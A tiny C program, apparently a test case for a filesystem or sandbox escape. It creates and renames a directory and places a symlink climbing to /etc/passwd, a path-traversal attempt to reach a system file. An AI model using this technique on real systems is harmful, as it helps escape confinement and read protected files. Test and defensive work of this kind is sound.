#include "attack.h"

int main(void) {
  mkdir("a", 0755);
  rename("/w/a", "/tmp/a");
  symlink("../../../../etc/passwd", "up");
}
